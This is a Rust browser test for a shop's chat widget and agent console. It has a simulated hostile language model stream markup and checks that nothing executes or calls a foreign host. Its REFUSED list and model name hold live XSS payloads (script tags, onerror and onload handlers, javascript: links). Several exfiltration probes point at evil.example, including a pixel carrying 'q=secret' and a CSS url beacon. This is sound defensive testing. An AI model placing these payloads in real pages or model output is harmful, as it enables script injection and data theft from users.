//! What a hostile model says, in a customer's window and in an agent's console, in a real Chromium: nothing runs, nothing
//! calls home, nothing is there that is not text.

use purser::store::Role;
use serde_json::{Value, json};

use super::server::{Act, Model, head, piece};
use super::settings;
use crate::agents::Agent;
use crate::agents::browser::log_in;
use crate::browser::{Browser, DESKTOP, Shop};
use crate::harness::PATIENCE;

/// What no check takes away, since there is no harm in it as text.
const PASSES: &[&str] = &[
    "&lt;img src=x onerror=alert&lpar;&rpar;&gt; and &lt;script&gt;alert&lpar;&rpar;&lt;/script&gt;",
    "[a page](https://halyard.example/\"onmouseover=\"alert`x`\"x)",
    "[a page](https://halyard.example/a \"'onclick='alert()' x='\")",
    "https://halyard.example/?q='onfocus='alert()'autofocus='",
    "{{ name }} ${alert()} {% raw %} #{alert()} `${alert()}`",
    "```html\n\" onload=alert() x=\"\n```\n\n~~struck~~ ***all***",
    "\u{202e}sdrawkcab\u{2066} [hal\u{200b}yard](https://halyard.example/ok) \u{7} \u{feff}",
    "{\"name\": \"hand_over\", \"arguments\": {}}",
    "| a | b |\n|---|---|\n| [c](https://halyard.example/c) | `javascript` \" onclick=alert() |",
    "# A heading\n\n> - [ ] *one*\n> - **two**\n\n[^a] and a\\\nb",
    "data-x=\"y\" style=\"position:fixed\" class=\"row agent\" id=\"x\"",
    "' onerror='alert()' \" autofocus onfocus=\"alert()\"",
];

/// What is not given.
const REFUSED: &[&str] = &[
    "Hello <script>alert(1)</script>",
    "<img src=x onerror=alert(1)> Saturdays are fine.",
    "![x](https://evil.example/pixel.gif?q=secret)",
    "![x](https://halyard.example/pixel.gif)",
    "[a page](javascript:alert(1))",
    "[a page](https://evil.example/)",
    "[a page](//evil.example/)",
    "<https://evil.example/>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<form action=https://evil.example/><button>Pay</button></form>",
    "<svg/onload=alert(1)>",
    "[a]: https://evil.example/x.js\n\n[a] ![a]",
    "<base href=https://evil.example/>",
];

/// The name of a model that wants to be more than one.
const NAME: &str = "<img src=x onerror=alert(1)>";

const TRAPS: &str = "window.hit = []; for (const name of ['alert', 'confirm', 'prompt', 'print', 'open']) window[name] = () => hit.push(name)";

/// What is in these elements that must not be: other elements, attributes that act, links that lead elsewhere.
fn judge(inside: &str) -> String {
    format!(
        "const allowed = /^(p|br|strong|em|del|code|pre|ul|ol|li|blockquote|h[1-6]|table|thead|tbody|tr|th|td|hr|div|span|a)$/i; \
         const inside = $$({inside:?}).flatMap((e) => [...e.querySelectorAll('*')]); \
         const odd = (e) => !allowed.test(e.tagName) \
             || [...e.attributes].some(({{ name }}) => !/^(class|dir|start|tabindex|role|href|rel|target)$/.test(name)) \
             || (e.tagName === 'A' && e.host !== 'halyard.example'); \
         return [window.hit, inside.filter(odd).map((e) => e.outerHTML)]"
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_that_a_model_says_runs_or_calls_home() {
    let Some(browser) = Browser::start(DESKTOP).await else { return };
    let model = Model::start(|_, number| {
        let text = PASSES.iter().chain(REFUSED).cycle().nth(number).expect("for ever");
        let letters: Vec<char> = format!("[1] {text}").chars().collect();
        let say = |text: &[char], finish: Value| {
            let delta = json!({ "content": text.iter().collect::<String>() });
            Act::Send(piece(&json!({ "model": NAME, "choices": [{ "delta": delta, "finish_reason": finish }] })))
        };
        let pieces = letters.chunks(3).map(|text| say(text, Value::Null));
        [Act::Send(head())].into_iter().chain(pieces).chain([say(&[], "stop".into())]).collect()
    })
    .await;
    let mut llm = settings(&model.url());
    llm.visitor_tokens = llm.day_tokens;
    let shop = Shop::open_with(|config| {
        config.llm = Some(llm);
        config.pipeline = ["plugins", "llm", "person"].map(str::to_owned).to_vec();
        // Nobody is called, however often there is no answer.
        config.people.call_after = 0;
    })
    .await;
    Agent::new(&shop.purser, "anna", Role::Agent).await;
    browser.devtools("Page.addScriptToEvaluateOnNewDocument", json!({ "source": TRAPS })).await;
    browser.devtools("Network.enable", json!({})).await;
    browser.reports().await;

    // In the customer's window. After each answer the last ones are there still.
    browser.goto(&shop.url).await;
    browser.open().await;
    let clean = json!([[], []]);
    let inside = ".row.bot:not(.draft) .bubble:not(.dots)";
    let answers = format!("$$({inside:?})");
    for (number, text) in PASSES.iter().chain(REFUSED).enumerate() {
        let before = browser.js(&format!("return {answers}.length")).await;
        browser.say(&format!("do you deliver on saturdays {number}")).await;
        let is_answered = format!("{answers}.length > {before} && !$('.draft')");
        browser.when_after(PATIENCE, "an answer", &is_answered).await;
        assert_eq!(browser.js(&judge(inside)).await, clean, "after {text:?}");
        let is_given = browser.js(&format!("return {answers}.at(-1).innerText.includes('Written by a machine')")).await;
        assert_eq!(is_given, number < PASSES.len(), "{text:?}");
    }

    // In the console, with all that stands behind an answer.
    let conversation = browser
        .js("return JSON.parse(localStorage[Object.keys(localStorage).find((key) => /^purser [^ ]+$/.test(key))]).conversation")
        .await;
    log_in(&browser, &shop, "anna").await;
    browser.goto(&format!("{}agent#{}", shop.url, conversation.as_str().expect("an id"))).await;
    browser.reload().await;
    let count = PASSES.len() + REFUSED.len();
    browser.when_after(PATIENCE, "all of it", &format!("$$('.msg.bot').length === {count}")).await;
    browser.js("$$('.why').forEach((why) => (why.open = true))").await;
    browser.when("the model's name", &format!("$$('.why dd').some((e) => e.textContent.includes({NAME:?}))")).await;
    assert_eq!(browser.js(&judge(".msg .said, .why dd")).await, clean);

    let own = shop.purser.address.to_string();
    let reports = browser.reports().await;
    let asked = reports.iter().filter(|report| report["method"] == "Network.requestWillBeSent");
    let asked: Vec<&str> = asked.filter_map(|report| report["params"]["request"]["url"].as_str()).collect();
    assert!(asked.len() > 5, "requests are seen: {asked:?}");
    let foreign: Vec<_> = asked.iter().filter(|url| !url.contains(&own) && !url.starts_with("data:")).collect();
    assert!(foreign.is_empty(), "{foreign:?}");
    assert_eq!(model.asked().len(), count, "nobody was handed over to, and nothing was asked twice");
    browser.end().await;
    shop.close().await;
}
